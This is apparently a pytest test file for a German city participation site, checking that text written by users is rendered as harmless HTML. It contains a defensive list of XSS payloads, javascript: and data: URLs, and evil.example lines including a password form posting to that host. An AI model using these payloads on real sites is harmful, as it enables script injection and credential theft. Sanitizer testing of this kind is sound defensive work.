"""Texts that people write become harmless HTML, quickly. No database."""

import re
import sys
import time
from concurrent.futures import ThreadPoolExecutor

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from participation.core.forms import clean_text
from participation.core.html import first_words, page_to_html, text_to_html
from tests.checking_client import parse

#: The same allow-list as in core/html.py, for the second opinion.
_TAGS = {"p", "br", "ul", "ol", "li", "strong", "em", "a", "blockquote"}
_ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
_SCHEMES = {"http", "https", "mailto"}
_SECONDS = 0.2


def tree(html: str) -> list[tuple[str, list[tuple[str, str]], str, str]]:
    """Each element with attributes and text, as a browser reads it."""
    body = parse(f"<!DOCTYPE html><title>x</title><body>{html}</body>").find("body")
    assert body is not None
    return [
        (str(e.tag), sorted((str(k), v) for k, v in e.attrib.items()), e.text or "", e.tail or "")
        for e in body.iter()
    ]


def nothing_left(html: str) -> bool:
    """Whether a second cleaner finds nothing that it would remove."""
    cleaned = nh3.clean(
        html, tags=_TAGS, attributes=_ATTRIBUTES, url_schemes=_SCHEMES, link_rel=None
    )
    return tree(cleaned) == tree(html)


def is_harmless(text: str) -> bool:
    """Whether only what is allowed comes out, to two readers of HTML."""
    html = str(text_to_html(text))
    allowed = all(
        tag in _TAGS and {name for name, _ in names} <= _ATTRIBUTES.get(tag, set())
        for tag, names, _, _ in tree(html)[1:]
    )
    return allowed and nothing_left(html)


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"https://x\" onclick=alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<form action=//evil.example><input name=password>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><!DOCTYPE x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "</p></main><h1>Die Stadt teilt mit</h1>",
    "\"><script>alert(1)</script>",
    "[x](https://x \"onmouseover=alert(1)\")",
    "[x](https://x '\"><img src=x onerror=alert(1)>')",
    "[x](<https://x/\" onclick=\"alert(1)>)",
    "[x](https://x\"onclick=\"alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](x \"onerror=alert(1)\")",
    "[![x](https://evil.example/pixel.png)](https://x)",
    "[<img src=x onerror=alert(1)>](https://x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://x \"<script>\"\n\n[x][x]",
    "<https://x/\"onclick=alert(1)>",
    "<javascript:alert(1)>",
    "# Überschrift\n\nText\n===\n\n---",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "~~~\n<b>\n~~~",
    "> <script>\n> - <b>\n>   1. <i>",
    "a\x00<script\x00>b",
    "<scr\u200bipt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "\u2028<script>\u2029",
]  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS)
def test_writer_cannot_smuggle_markup_into_a_page(text: str) -> None:
    assert is_harmless(text)
    assert "<script" not in text_to_html(text).lower()
    assert "<img" not in text_to_html(text).lower()


_DEAD = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "%6Aavascript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=", "DATA:image/svg+xml,x", "data:image/png;base64,x",
    "vbscript:msgbox(1)", "file:///etc/passwd", "feed:javascript:alert(1)", "blob:x", "about:blank",
    "ftp://x", "tel:110", "view-source:javascript:x", "livescript:x", "intent://x",
]  # fmt: skip


@pytest.mark.parametrize("address", _DEAD)
@pytest.mark.parametrize(
    "form", ["[x]({})", "[x](<{}>)", "<{}>", "[x]\n\n[x]: {}", "<a href='{}'>x</a>"]
)
def test_link_that_is_no_web_or_mail_address_is_dead(address: str, form: str) -> None:
    html = text_to_html(form.format(address))
    body = parse(f"<!DOCTYPE html><title>x</title><body>{html}</body>")
    for link in body.iter("a"):
        # Browsers skip tabs and line feeds, and what cannot be seen at the beginning.
        href = re.sub(r"[\t\r\n]", "", link.get("href") or "").lstrip("".join(map(chr, range(33))))
        assert not re.match(r"[a-z][a-z0-9+.-]*:", href, re.IGNORECASE), href
    assert is_harmless(form.format(address))


@pytest.mark.parametrize(
    "address", ["https://www.mainz.de/", "http://x.example/a?b=c&d=e", "mailto:name@example.org"]
)
def test_link_to_a_web_or_mail_address_works_and_speaks_for_its_author(address: str) -> None:
    for form in (f"[Seite]({address})", f"<{address}>"):
        link = next(parse(f"<!DOCTYPE html><title>x</title>{text_to_html(form)}").iter("a"))
        assert link.get("href") == address
        assert set((link.get("rel") or "").split()) == {"nofollow", "ugc", "noopener"}


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("Erste Zeile\nzweite\n\nAbsatz", "<p>Erste Zeile<br>\nzweite</p>\n<p>Absatz</p>"),
        ("- eins\n- zwei", "<ul>\n<li>eins</li>\n<li>zwei</li>\n</ul>"),
        ("3. drei\n4. vier", '<ol start="3">\n<li>drei</li>\n<li>vier</li>\n</ol>'),
        ("**stark** und *betont*", "<p><strong>stark</strong> und <em>betont</em></p>"),
        ("> gesagt", "<blockquote>\n<p>gesagt</p>\n</blockquote>"),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>"),
        ("# kein Titel", "<p># kein Titel</p>"),
        ("", ""),
    ],
)
def test_writer_gets_paragraphs_lists_and_emphasis(text: str, html: str) -> None:
    assert str(text_to_html(text)).strip().replace("<br />", "<br>") == html


@given(
    st.text(alphabet=st.sampled_from("<>\"'&;:/()[]!*_`#=-+.\\ \n\tascriptjvhef0123"), max_size=120)
)
def test_nothing_harmful_comes_out_whatever_is_written(text: str) -> None:
    assert is_harmless(text)


_LONG = [
    "[" * 25_000, "*a" * 25_000, "> " * 25_000, "- " * 25_000, "(" * 50_000, "*" * 50_000, "_" * 50_000,
    "<" * 50_000, "&" * 50_000, "![" * 25_000, "](" * 25_000, "[a](" * 12_500, "[x](" + "(" * 50_000,
    "<!--" * 12_500, "<a " * 16_000, "\\" * 50_000, "1. " * 16_000, "- a\n" * 12_500, "> a\n" * 12_500,
    "*_" * 25_000, "a**b" * 12_500, "&#x;" * 12_500, "\t" * 50_000, "\n" * 50_000, "[]" * 25_000,
    "*a **a " * 7_000, "<http://" * 6_000, "".join(" " * (2 * n) + "- a\n" for n in range(220)),
]  # fmt: skip


@pytest.mark.parametrize("text", _LONG, ids=lambda text: repr(text[:6]))
def test_long_text_of_any_shape_is_shown_within_a_second(text: str) -> None:
    seconds = []
    for _ in range(3):  # own time, and the best of three: other tests run on this machine too
        begin = time.thread_time()
        html = text_to_html(text)
        seconds.append(time.thread_time() - begin)
    assert min(seconds) < _SECONDS
    assert len(html) < 10 * len(text) + 100


def test_first_words_end_at_a_word() -> None:
    assert first_words("Kurz\n und\tgut") == "Kurz und gut"
    assert first_words("Eins, zwei, drei", 12) == "Eins, zwei …"
    assert len(first_words("x" * 500)) <= 182


_CONTROL = "\x00\x01\x08\x0b\x0c\x1b\x1f\x7f\x80\x85\x9f"
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"
_NO_WIDTH = "\u200b\u2060\u2063\u206f\u180e\u034f\u115f\u3164\uffa0\ufff9\uffff\U000e0041\U000e01ef"


@pytest.mark.parametrize(
    "sign", _CONTROL + _BIDI + _NO_WIDTH, ids=lambda sign: f"U+{ord(sign):04X}"
)
def test_cleaning_removes_what_nobody_can_see(sign: str) -> None:
    assert clean_text(f"vor{sign}her") == "vorher"


def test_cleaning_keeps_what_people_write() -> None:
    for text in (
        "Grüße\n\tund 🌳", "שלום", "مرحبا", "👩‍👧", "a\u00ad b", "Straße", "می‌خواهم", "❤️‍🔥", "Việt Nam",
        "בְּרֵאשִׁ֖ית", "שלום\u200e!", "👍🏽", "…", "3", "€",
    ):  # fmt: skip
        assert clean_text(text) == text
    assert clean_text("a\r\nb\rc") == "a\nb\nc"
    assert clean_text("  a  ") == "a"
    assert clean_text("u\u0308") == "ü"
    assert clean_text("\ud800x") == "x"
    assert clean_text(None) is None


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Z" + "\u0301\u0302\u0303\u0304" * 50 + "a", "Ź\u0302\u0303\u0304\u0301a"),
        ("a" + "\u200d" * 500 + "b", "a\u200db"),
        ("a\u2028b\u2029c", "a\nb\nc"),
        ("\u3164\u200d\u2800 \u00ad\u0301", ""),
        ("\u200d" * 40, ""),
        ("Rathaus\u202efdp.exe", "Rathausfdp.exe"),
    ],
)
def test_cleaning_leaves_one_of_what_is_there_many_times(typed: str, kept: str) -> None:
    assert clean_text(typed) == kept


def test_texts_of_several_readers_at_once_are_not_mixed_up() -> None:
    texts = [f"**{n}** [{n}](https://x.example/{n}) " + f"w{n} " * 100 for n in range(8)]
    expected = [text_to_html(text) for text in texts]
    before = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)
    try:
        with ThreadPoolExecutor(8) as pool:
            shown = list(pool.map(text_to_html, texts * 30))
    finally:
        sys.setswitchinterval(before)
    assert shown == expected * 30


@given(st.text())
def test_cleaning_twice_changes_nothing_more(text: str) -> None:
    assert clean_text(clean_text(text)) == clean_text(text)


def test_text_longer_than_any_form_takes_is_shown_in_paragraphs() -> None:
    long = "Ein <b>Absatz</b> & *mehr*\nzweite Zeile\n\n" * 400
    html = text_to_html(long)
    assert html.startswith("<p>Ein &lt;b&gt;Absatz&lt;/b&gt; &amp; *mehr*<br>zweite Zeile</p><p>")
    assert html.count("<p>") == html.count("</p>") == 400


@pytest.mark.parametrize(
    "text, html",
    [
        ("# a", '<h2 class="kern-heading-medium">a</h2>'),
        ("### a", '<h2 class="kern-heading-medium">a</h2>'),
        (
            "## a\n\n#### b",
            '<h2 class="kern-heading-medium">a</h2>\n<h3 class="kern-heading-small">b</h3>',
        ),
        ("##\n\n##", "<p></p>\n<p></p>"),
        ("a\n===", "<p>a<br>\n===</p>"),
        ("[a](/de/)", '<p><a href="/de/">a</a></p>'),
        ("[a](tel:110)", '<p><a href="tel:110">a</a></p>'),
        ("[a](de/) [b](//x.example/) [c](#d)", "<p>[a](de/) [b](//x.example/) [c](#d)</p>"),
        ("<h2 onclick=x>a</h2>", "<p>&lt;h2 onclick=x&gt;a&lt;/h2&gt;</p>"),
    ],
)
def test_page_of_the_city_has_headings_and_paths(text: str, html: str) -> None:
    assert page_to_html(text).strip() == html


@given(st.text(alphabet="#*_[](){}<>/\\:ab \n&\"'-!`|", max_size=120))
def test_no_page_of_the_city_does_harm(text: str) -> None:
    tags = _TAGS | {"h2", "h3"}
    attributes = {"a": {"href"}, "ol": {"start"}, "h2": {"class"}, "h3": {"class"}}
    html = str(page_to_html(text))
    schemes = _SCHEMES | {"tel"}
    cleaned = nh3.clean(html, tags=tags, attributes=attributes, url_schemes=schemes, link_rel=None)
    assert tree(cleaned) == tree(html)
    assert all(tag in tags for tag, *_ in tree(html)[1:])
